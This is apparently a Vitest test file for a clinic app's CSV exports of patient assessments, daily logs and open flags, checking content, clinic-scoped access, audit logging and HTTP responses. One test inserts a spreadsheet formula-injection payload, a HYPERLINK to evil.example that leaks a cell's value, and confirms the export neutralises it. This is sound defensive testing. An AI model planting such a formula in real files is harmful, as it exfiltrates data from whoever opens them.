import { parse } from "csv-parse/sync";
import { and, eq, inArray } from "drizzle-orm";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { getDb } from "@/db/client";
import {
  assessments,
  auditEvents,
  clinics,
  dailyLogs,
  flags,
  logItems,
  masScores,
  patients,
  users,
} from "@/db/schema";
import { seedDemo } from "@/db/seed/demo";
import { loadViewer } from "@/lib/auth/load-viewer";
import type { Viewer } from "@/lib/auth/viewer-type";
import { addDays, todayIn } from "@/lib/clinical/dates";
import { amendmentSchema, assessmentSchema } from "@/lib/validation/assessment";
import { amendAssessment, recordAssessment } from "./assessments";
import { exportAssessmentsCsv, exportLogsCsv, exportOpenFlagsCsv } from "./csv-export";
import { NotFoundError } from "./errors";

// The route handlers read the session through getViewer; here it answers what the test says.
const session = vi.hoisted(() => ({ viewer: null as Viewer | null }));
vi.mock("@/lib/auth/viewer", () => ({ getViewer: async () => session.viewer }));

const { GET: assessmentsRoute } = await import(
  "@/app/api/patients/[patientId]/assessments.csv/route"
);
const { GET: logsRoute } = await import("@/app/api/patients/[patientId]/logs.csv/route");
const { GET: flagsRoute } = await import("@/app/api/flags.csv/route");

type Row = Record<string, string>;
const read = (csv: string) => parse(csv, { columns: true, bom: true }) as Row[];

let maria: { id: string; clinicId: string };
let otherClinicId: string;

/** A fresh viewer (= a fresh request) from the user's current session claims. */
async function viewerOf(email: string): Promise<Viewer> {
  const db = await getDb();
  const [u] = await db.select().from(users).where(eq(users.email, email));
  if (!u) throw new Error(`no user ${email}`);
  const viewer = await loadViewer(
    db,
    { userId: u.id, sessionVersion: u.sessionVersion, role: u.role, clinicId: u.clinicId },
    "127.0.0.1",
  );
  if (!viewer) throw new Error(`no viewer for ${email}`);
  return viewer;
}
const sam = () => viewerOf("therapist@demo.clinic");
const admin = () => viewerOf("admin@demo.clinic");
const jordan = () => viewerOf("therapist@other.clinic");
const mariaLogin = () => viewerOf("patient@demo.clinic");

async function auditOf(action: string, userId: string) {
  const db = await getDb();
  return db
    .select()
    .from(auditEvents)
    .where(and(eq(auditEvents.action, action), eq(auditEvents.actorUserId, userId)));
}

beforeAll(async () => {
  const db = await getDb();
  await seedDemo(db);
  const [row] = await db
    .select({ id: patients.id, clinicId: patients.clinicId })
    .from(patients)
    .where(and(eq(patients.givenName, "Maria"), eq(patients.familyName, "Lopez")));
  if (!row) throw new Error("no Maria");
  maria = row;
  const [other] = await db
    .select({ id: clinics.id })
    .from(clinics)
    .where(eq(clinics.name, "Other Clinic"));
  if (!other) throw new Error("no Other Clinic");
  otherClinicId = other.id;
});

beforeEach(() => {
  session.viewer = null;
});

describe("assessments CSV", () => {
  it("round-trips every score of every version, 1+ included", async () => {
    const db = await getDb();
    const { csv, rows, filename } = await exportAssessmentsCsv(await sam(), maria.id);
    expect(filename).toMatch(/^patient-[0-9a-f]{8}-assessments-\d{4}-\d{2}-\d{2}\.csv$/);
    const parsed = read(csv);
    expect(parsed).toHaveLength(rows);

    const dbScores = await db
      .select({
        assessmentId: masScores.assessmentId,
        muscleGroup: masScores.muscleGroup,
        side: masScores.side,
        grade: masScores.grade,
      })
      .from(masScores)
      .innerJoin(assessments, eq(assessments.id, masScores.assessmentId))
      .where(eq(assessments.patientId, maria.id));
    const key = (a: string, m: string, s: string, g: string) => `${a}|${m}|${s}|${g}`;
    const fromCsv = parsed.map((r) =>
      key(r.assessment_id ?? "", r.muscle_group ?? "", r.side ?? "", r.grade ?? ""),
    );
    const fromDb = dbScores.map((s) => key(s.assessmentId, s.muscleGroup, s.side, s.grade));
    expect(new Set(fromCsv).size).toBe(fromCsv.length);
    expect(new Set(fromCsv)).toEqual(new Set(fromDb));
    expect(parsed.some((r) => r.grade === "1+")).toBe(true);

    // The seeded correction (sides swapped) is there with the version it supersedes.
    const corrections = parsed.filter((r) => r.version === "correction 1");
    expect(corrections.length).toBeGreaterThan(0);
    expect(corrections.every((r) => r.status === "current")).toBe(true);
    expect(corrections[0]?.amendment_reason).toBe("Left and right swapped when recording");
    const rootId = corrections[0]?.root_id;
    const original = parsed.filter((r) => r.assessment_id === rootId);
    expect(original.length).toBeGreaterThan(0);
    expect(original.every((r) => r.status === "superseded" && r.version === "original")).toBe(true);
    for (const r of parsed) {
      expect(r.assessed_on).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.recorded_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(r.assessor).toBeTruthy();
      expect(r.muscle_group_label).toBeTruthy();
    }
  });

  it("neutralises a note and a correction reason that would run as formulas", async () => {
    const therapist = await sam();
    const note = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    const assessedOn = addDays(todayIn(therapist.clinicTimeZone), -1);
    const scores = [
      { muscleGroup: "elbow_flexors", side: "left", grade: "1+" },
      { muscleGroup: "elbow_flexors", side: "right", grade: "1" },
    ];
    const { id } = await recordAssessment(
      therapist,
      assessmentSchema.parse({
        patientId: maria.id,
        assessedOn,
        position: "sitting",
        notes: note,
        scores,
      }),
    );
    const amended = await amendAssessment(
      await sam(),
      amendmentSchema.parse({
        patientId: maria.id,
        supersedesId: id,
        assessedOn,
        position: "sitting",
        notes: note,
        scores,
        amendmentReason: "+wrong position recorded",
      }),
    );

    const parsed = read((await exportAssessmentsCsv(await sam(), maria.id)).csv);
    const mine = parsed.filter((r) => r.assessment_id === id);
    expect(mine.map((r) => [r.side, r.grade, r.status]).sort()).toEqual([
      ["left", "1+", "superseded"],
      ["right", "1", "superseded"],
    ]);
    for (const r of mine) expect(r.notes).toBe(`'${note}`);
    const correction = parsed.filter((r) => r.assessment_id === amended.id);
    expect(correction).toHaveLength(2);
    for (const r of correction) {
      expect(r.notes).toBe(`'${note}`);
      expect(r.amendment_reason).toBe("'+wrong position recorded");
      expect(r.version).toBe("correction 1");
      expect(r.status).toBe("current");
    }
  });
});

describe("logs CSV", () => {
  it("has one row per daily log, with the day's sessions totalled", async () => {
    const db = await getDb();
    const { csv, rows } = await exportLogsCsv(await admin(), maria.id);
    const parsed = read(csv);
    const logs = await db.select().from(dailyLogs).where(eq(dailyLogs.patientId, maria.id));
    expect(logs.length).toBeGreaterThan(0);
    expect(parsed).toHaveLength(logs.length);
    expect(rows).toBe(logs.length);
    expect(parsed.map((r) => r.date)).toEqual(logs.map((l) => l.logDate).sort());

    const items = await db
      .select()
      .from(logItems)
      .where(
        inArray(
          logItems.logId,
          logs.map((l) => l.id),
        ),
      );
    const byDate = new Map(parsed.map((r) => [r.date, r]));
    for (const log of logs) {
      const row = byDate.get(log.logDate);
      const total = items
        .filter((i) => i.logId === log.id)
        .reduce((sum, i) => sum + i.sessionsDone, 0);
      expect(row?.sessions_done).toBe(String(total));
      expect(row?.symptoms).toBe(log.symptoms.join("; "));
      expect(row?.spasticity_nrs).toBe(log.spasticityNrs === null ? "" : String(log.spasticityNrs));
      expect(row?.new_weakness).toBe(String(log.newWeakness));
    }
  });
});

describe("open flags CSV", () => {
  it("lists only the viewer's clinic's open and acknowledged flags", async () => {
    const db = await getDb();
    const byClinic = async (clinicId: string) =>
      db
        .select({ given: patients.givenName, family: patients.familyName })
        .from(flags)
        .innerJoin(patients, eq(patients.id, flags.patientId))
        .where(and(eq(flags.clinicId, clinicId), inArray(flags.status, ["open", "acknowledged"])));
    const demoFlags = await byClinic(maria.clinicId);
    expect(demoFlags.length).toBeGreaterThan(0);

    const parsed = read((await exportOpenFlagsCsv(await sam())).csv);
    expect(parsed).toHaveLength(demoFlags.length);
    expect(new Set(parsed.map((r) => r.patient_name))).toEqual(
      new Set(demoFlags.map((f) => `${f.given} ${f.family}`)),
    );
    const otherNames = (
      await db
        .select({ given: patients.givenName, family: patients.familyName })
        .from(patients)
        .where(eq(patients.clinicId, otherClinicId))
    ).map((p) => `${p.given} ${p.family}`);
    for (const r of parsed) {
      expect(otherNames).not.toContain(r.patient_name);
      expect(["open", "acknowledged"]).toContain(r.status);
      expect(r.title).toBeTruthy();
      expect(r.keys ?? "").toMatch(/^([a-z_]+:(left|right)(; [a-z_]+:(left|right))*)?$/);
      expect(r.raised_on).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    }

    const otherFlags = await byClinic(otherClinicId);
    expect(otherFlags.length).toBeGreaterThan(0);
    const theirs = read((await exportOpenFlagsCsv(await jordan())).csv);
    expect(theirs).toHaveLength(otherFlags.length);
    for (const r of theirs) expect(otherNames).toContain(r.patient_name);
  });
});

describe("access", () => {
  it("tells a patient and another clinic's therapist that nothing is there, and audits it", async () => {
    const patient = await mariaLogin();
    await expect(exportAssessmentsCsv(patient, maria.id)).rejects.toThrow(NotFoundError);
    await expect(exportLogsCsv(patient, maria.id)).rejects.toThrow(NotFoundError);
    await expect(exportOpenFlagsCsv(patient)).rejects.toThrow(NotFoundError);

    const other = await jordan();
    await expect(exportAssessmentsCsv(other, maria.id)).rejects.toThrow(NotFoundError);
    await expect(exportLogsCsv(other, maria.id)).rejects.toThrow(NotFoundError);
    await expect(exportAssessmentsCsv(await sam(), "not-a-uuid")).rejects.toThrow(NotFoundError);

    const denied = async (action: string, userId: string) =>
      (await auditOf(action, userId)).filter((e) => e.outcome === "denied");
    expect(await denied("patient.export.assessments_csv", patient.userId)).toHaveLength(1);
    expect(await denied("patient.export.logs_csv", patient.userId)).toHaveLength(1);
    expect(await denied("flags.export_csv", patient.userId)).toHaveLength(1);
    const jordanDenied = await denied("patient.export.assessments_csv", other.userId);
    expect(jordanDenied).toHaveLength(1);
    expect(jordanDenied[0]?.entityId).toBe(maria.id);
    // Nothing was exported to them.
    for (const action of ["patient.export.assessments_csv", "patient.export.logs_csv"]) {
      const events = [
        ...(await auditOf(action, patient.userId)),
        ...(await auditOf(action, other.userId)),
      ];
      expect(events.filter((e) => e.outcome === "success")).toHaveLength(0);
    }
  });
});

describe("audit", () => {
  it("records exactly one event per export request, and nothing else", async () => {
    const db = await getDb();
    const viewer = await admin();
    const all = async () =>
      db.select().from(auditEvents).where(eq(auditEvents.actorUserId, viewer.userId));

    const before = (await all()).length;
    await exportAssessmentsCsv(viewer, maria.id);
    const afterAssessments = await all();
    expect(afterAssessments).toHaveLength(before + 1);
    const event = afterAssessments.find(
      (e) => e.action === "patient.export.assessments_csv" && e.outcome === "success",
    );
    expect(event).toMatchObject({
      patientId: maria.id,
      entityType: "patient",
      entityId: maria.id,
      actorRole: "admin",
      clinicId: maria.clinicId,
      ip: "127.0.0.1",
    });

    await exportLogsCsv(await admin(), maria.id);
    const logEvents = (await auditOf("patient.export.logs_csv", viewer.userId)).filter(
      (e) => e.outcome === "success",
    );
    expect(logEvents.length).toBeGreaterThanOrEqual(1);
    expect(logEvents.every((e) => e.patientId === maria.id)).toBe(true);

    const beforeFlags = (await all()).length;
    const { rows } = await exportOpenFlagsCsv(await admin());
    const afterFlags = await all();
    expect(afterFlags).toHaveLength(beforeFlags + 1);
    const flagEvent = afterFlags.find((e) => e.action === "flags.export_csv");
    expect(flagEvent).toMatchObject({ outcome: "success", clinicId: maria.clinicId });
    expect(flagEvent?.details).toMatchObject({ rows });
  });
});

describe("route handlers", () => {
  const params = (patientId: string) => ({ params: Promise.resolve({ patientId }) });
  const request = (path: string) => new Request(`http://localhost${path}`);

  it("answers 401 without a viewer", async () => {
    const response = await assessmentsRoute(
      request(`/api/patients/${maria.id}/assessments.csv`),
      params(maria.id),
    );
    expect(response.status).toBe(401);
    expect(await response.json()).toHaveProperty("error");
    expect((await flagsRoute()).status).toBe(401);
  });

  it("answers 404 to a patient and to another clinic, without details", async () => {
    session.viewer = await mariaLogin();
    for (const response of [
      await assessmentsRoute(request("/x"), params(maria.id)),
      await logsRoute(request("/x"), params(maria.id)),
      await flagsRoute(),
    ]) {
      expect(response.status).toBe(404);
      expect(await response.json()).toEqual({ error: "Not found." });
    }
    session.viewer = await jordan();
    const response = await logsRoute(request("/x"), params(maria.id));
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({ error: "Not found." });
  });

  it("sends staff a no-store CSV attachment starting with a BOM", async () => {
    for (const [route, name] of [
      [() => assessmentsRoute(request("/x"), params(maria.id)), "assessments"],
      [() => logsRoute(request("/x"), params(maria.id)), "logs"],
      [() => flagsRoute(), "open-flags"],
    ] as const) {
      session.viewer = await sam();
      const response = await route();
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(response.headers.get("cache-control")).toBe("no-store");
      expect(response.headers.get("content-disposition")).toMatch(
        new RegExp(`^attachment; filename="[a-z0-9-]*${name}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
      );
      const bytes = new Uint8Array(await response.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const parsed = read(new TextDecoder().decode(bytes));
      expect(parsed.length).toBeGreaterThan(0);
    }
  });
});
